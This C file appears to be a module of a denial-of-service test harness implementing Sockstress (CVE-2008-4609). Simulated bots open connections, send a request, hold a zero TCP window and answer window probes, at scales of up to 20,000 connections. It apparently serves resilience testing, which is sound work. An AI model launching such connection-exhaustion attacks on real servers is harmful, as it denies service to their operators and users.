/* SPDX-License-Identifier: BSD-3-Clause */

/* Sockstress (CVE-2008-4609): a handshake and one request, with window 0. The bots answer every
 * window probe, so that R2 does not end the connections. `size` is the length of the answer in bytes. */

#include "abuse.h"

static void
step(struct abuse *w)
{
	bots_trickle(w, HTTP, 0, 2000);
}

static void
opened(struct abuse *w, struct bot *b)
{
	char text[128];
	int n = request(text, abuse_params(w)->size, false);

	bot_send(w, b, text, (size_t)n, (size_t)n);
}

static const struct row rows[] = {
	{.n = 300, .size = 100000},
	{.n = 5000, .size = 1000000, .ip6 = true},
	{.n = 300, .size = 100000, .pool = 1024},
	{.n = 1000, .size = 200, .pool = 2048, .ip6 = true},
	{.n = 20000, .size = 1000000, .ms = 20000, .longer = true},
};

const struct attack attack_sockstress = {
	.name = "sockstress",
	.kind = "sockstress, CVE-2008-4609: a request behind a window of 0",
	ROWS(rows),
	.step = step,
	.open = opened,
};
